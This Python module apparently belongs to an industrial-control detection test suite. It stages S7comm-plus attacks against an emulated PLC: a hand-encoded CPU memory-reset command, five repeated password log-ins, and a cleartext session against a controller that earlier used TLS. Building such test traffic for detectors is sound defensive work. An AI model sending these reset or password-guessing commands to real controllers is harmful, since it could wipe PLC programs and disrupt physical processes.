"""S7comm-plus, by the public client and its emulator: memory reset, passwords refused, a controller that spoke TLS and does no more.

The client does not send orders of which its makers are not sure; it is told their bytes here, after what public research shows. The emulator
answers none of them; ours accepts the reset and refuses the password. Benign twin: `twin-plus`, one log-in refused and then accepted, no reset.
"""

from __future__ import annotations

import contextlib
import subprocess
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from ..plan import machine
from .base import Act, Attack, Text, text
from .beside import beside

PORT = 102
CPU_COMMON, MEMORY_RESET = 50, 3748
LEGITIMATION = 1846
REFUSED = 1 << 63 | (-22 & 0xFFFF)


def controller(tls: bool = False, refusals: int = 99) -> Callable[[], None]:
    def serve() -> None:
        from s7commplus.protocol import FunctionCode
        from s7commplus.server import S7CommPlusServer
        from s7commplus.vlq import encode_uint32_vlq, encode_uint64_vlq

        class Plc(S7CommPlusServer):
            left = refusals

            def _process_request(self, data: bytes, *rest: Any, **more: Any) -> Any:
                self._asked = data
                return super()._process_request(data, *rest, **more)

            def _build_error_response(self, seq_num: int, session_id: int, function_code: int) -> bytes:
                if function_code != FunctionCode.SET_VARIABLE:
                    return super()._build_error_response(seq_num, session_id, function_code)
                logs_in = encode_uint32_vlq(LEGITIMATION) in self._asked
                self.left -= logs_in
                result = REFUSED if logs_in and self.left >= 0 else 0
                return bytes(self._build_response_header(function_code, seq_num)) + encode_uint64_vlq(result) + bytes(4)

        with tempfile.TemporaryDirectory() as name:
            folder, options = Path(name), {}
            if tls:
                made = ["-subj", "/CN=office-plc", "-keyout", f"{folder}/key", "-out", f"{folder}/crt"]
                subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", *made], check=True, stderr=subprocess.DEVNULL)
                options = {"use_tls": True, "tls_cert": f"{folder}/crt", "tls_key": f"{folder}/key"}
            plc = Plc(protocol_version=2 if tls else 1)
            plc.register_raw_db(1, bytearray(range(64)))
            plc.start("0.0.0.0", PORT, **options)
            time.sleep(600)

    return serve


def session(do: Callable[[Any], None], tls: bool = False) -> None:
    from s7commplus.client import S7CommPlusClient

    station = S7CommPlusClient()
    station.connect(machine("office").ip, PORT, use_tls=tls)
    with contextlib.suppress(Exception):
        do(station)
    with contextlib.suppress(Exception):
        station.disconnect()


def set_variable(station: Any, object_id: int, attribute: int, value: bytes) -> None:
    from s7commplus import connection
    from s7commplus.protocol import FunctionCode

    payload = connection._build_set_variable_payload(object_id, attribute, value)
    with contextlib.suppress(Exception):
        station._connection.send_request(FunctionCode.SET_VARIABLE, payload, integrity_tail=4)


def _reset(station: Any) -> None:
    set_variable(station, CPU_COMMON, MEMORY_RESET, bytes([0x00, 0x07, 4]))


def log_in(station: Any) -> None:
    set_variable(station, station.session_id, LEGITIMATION, bytes([0x10, 0x02, 20]) + bytes(range(20)))


def _guess(station: Any) -> None:
    for _ in range(5):
        log_in(station)
        time.sleep(0.3)


def _in_the_open() -> None:
    def look(station: Any) -> None:
        station.db_read(1, 0, 8)

    with beside("office", controller(tls=True), settle=4):
        session(look, tls=True)
    with beside("office", controller(), settle=3):
        session(look)


def _with(do: Callable[[Any], None]) -> Callable[[], None]:
    def act() -> None:
        with beside("office", controller(), settle=3):
            session(do)

    return act


def _act(detection: str, name: str, what: Text, do: Callable[[], None]) -> Act:
    return Act(name, "eng", "office", what, "s7commplus", "tcp.port == 102", do, detection=detection)


ATTACK = Attack(
    "plus",
    text("S7comm-plus：复位、猜口令和降级", "S7comm-plus: a reset, guessed passwords, a downgrade"),
    (
        _act("SP-03", "reset", text("复位控制器存储器", "The controller's memory is reset"), _with(_reset)),
        _act("SP-07", "passwords", text("五次口令被拒绝", "Five passwords are refused"), _with(_guess)),
        _act("SP-08", "plain", text("控制器不再加密", "A controller that spoke TLS takes a session in clear"), _in_the_open),
    ),
    also=("NET-01", "NET-02", "NET-06", "NET-18", "S7-01", "S7-23", "SP-01", "SP-05", "SP-06", "COR-01", "COR-02"),
)
